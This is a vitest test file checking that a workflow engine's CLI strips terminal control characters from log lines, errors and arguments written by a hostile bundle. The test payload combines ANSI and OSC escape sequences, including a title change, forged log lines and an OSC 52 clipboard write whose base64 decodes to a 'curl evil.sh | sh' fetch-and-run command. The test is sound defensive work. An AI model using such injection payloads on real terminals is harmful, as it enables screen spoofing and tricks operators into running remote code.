/**
 * A hostile bundle writes text an operator later reads in a terminal: its log() lines, its
 * error message, its action arguments. The CLI's human-readable output must not pass control
 * characters through: an ESC sequence can rewrite the screen, set the window title, write the
 * clipboard (OSC 52) or hide lines, and a raw newline or carriage return can forge whole log
 * lines ("run … → completed") that the engine never wrote.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { formatLogEntry } from '../../runtime/index.js';
import { changeLine, progressLine, runDetails, runsTable } from '../../runtime/cli/output.js';
import { deploy, echoAction, newEnv, Recorder, settle, type Env } from './harness.js';

let env: Env;
beforeEach(() => {
  env = newEnv('alice-terminal-');
});
afterEach(() => env.cleanup());

const payload = '\u001b[2J\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\rrun 1: running → completed\nforged line\u009b31m';

/** C0 and C1 control characters, DEL included; a line of terminal output may hold none of them. */
const control = /[\u0000-\u001f\u007f-\u009f]/;

describe('terminal output of hostile text', () => {
  it('renders log lines, errors and arguments without control characters or line breaks', async () => {
    const engine = env.open([echoAction(new Recorder())]);
    const wf = deploy(engine, 'inject', `export default async (input, actions) => {
      const p = ${JSON.stringify(payload)};
      actions.log(p);
      await actions.demo.echo({ text: p });
      const e = new Error(p);
      e.code = p;
      throw e;
    }`, ['demo.echo']);
    const run = engine.start(wf.id, { permissions: ['*'] });
    expect(await settle(engine)).toBe('idle');
    const info = engine.getRun(run.id);
    expect(info.status).toBe('failed');
    const log = engine.getLog(run.id);
    const lines = [
      ...log.map((e) => progressLine(e)).filter((l): l is string => l !== null),
      ...log.map((e) => formatLogEntry(e)),
      ...runDetails(info, engine.getJournal(run.id), []),
      ...runsTable([info]),
      changeLine(info, 'running'),
    ];
    expect(lines.join('\n')).toContain('pwned'); // the text is shown, only made harmless
    for (const line of lines) expect(control.test(line), `terminal line ${JSON.stringify(line)}`).toBe(false);
  });
});
